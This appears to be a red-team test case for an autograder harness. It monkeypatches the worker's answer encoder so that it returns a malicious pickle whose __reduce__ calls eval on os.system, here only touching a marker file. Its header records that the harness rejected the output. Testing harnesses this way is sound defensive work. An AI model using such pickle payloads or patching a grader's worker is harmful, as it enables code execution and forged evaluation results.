# /// attack
# tries = "Replaces what encodes answers in its own process, so that they come as pickles with code in them."
# threats = ["harness.patched_worker", "channel.forged"]
# score = 0
# says = ["gave something that cannot be read"]
# shows = ["answers are pickles"]
# ///

# %% use="honest"

# %%
import pickle

from autograder.worker.answers import Answerer


class Evil:
    def __reduce__(self):
        return (eval, ("__import__('os').system('touch /tmp/red-team-pickle')",))


Answerer.answer = lambda self, question: pickle.dumps(Evil())
print("answers are pickles")
